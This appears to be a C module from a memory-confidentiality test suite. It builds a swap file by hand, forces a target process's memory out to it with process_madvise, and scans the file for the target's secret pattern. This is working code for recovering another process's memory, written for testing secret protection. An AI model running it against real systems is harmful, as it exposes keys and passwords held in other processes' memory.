/* SPDX-License-Identifier: Apache-2.0
 *
 * The victim's memory pushed out to a swap file of the attacker's, and the file read. The swap file
 * is there only as long as the attack.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define PAGES 32768u /* 128 MiB */

/* mkswap(8): page 0 holds a header at 1024 and the magic at its end. */
static int make_swap_file(const char *path)
{
    static uint8_t zero[1 << 20], page[4096];
    const uint32_t header[3] = {1, PAGES - 1, 0}; /* version, last page, bad pages */
    int fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0)
        return -1;
    for (uint32_t i = 0; i < PAGES / 256; i++)
        if (write(fd, zero, sizeof(zero)) != sizeof(zero))
            goto failed;
    memcpy(page + 1024, header, sizeof(header));
    memcpy(page + 4086, "SWAPSPACE2", 10);
    if (pwrite(fd, page, sizeof(page), 0) == sizeof(page) && fsync(fd) == 0)
        return fd;
failed:
    close(fd);
    return -1;
}

static void page_out(pid_t pid)
{
    struct mapping *list = NULL;
    ssize_t count = mappings_read(pid, &list);
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    for (ssize_t i = 0; i < count; i++) {
        struct iovec range = {(void *)(uintptr_t)list[i].start, list[i].end - list[i].start};
        syscall(SYS_process_madvise, process, &range, 1, MADV_PAGEOUT, 0);
    }
    close(process);
    free(list);
}

void attack_swap(struct target *target, struct result *result)
{
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "%s", work_path("swap"));
    int fd = make_swap_file(path);
    if (fd < 0 || swapon(path, 0)) {
        conclude(result, SKIPPED, "no swap file can be used here: %s", strerror(errno));
    } else {
        for (int i = 0; i < 3; i++)
            page_out(target->pid);
        sync();
        posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
        conclude_cells(result, scan_file(target->pattern, fd), "the swap file");
        if (swapoff(path))
            conclude(result, SKIPPED, "swapoff %s: %s; turn it off by hand", path, strerror(errno));
    }
    if (fd >= 0)
        close(fd);
    unlink(path);
}
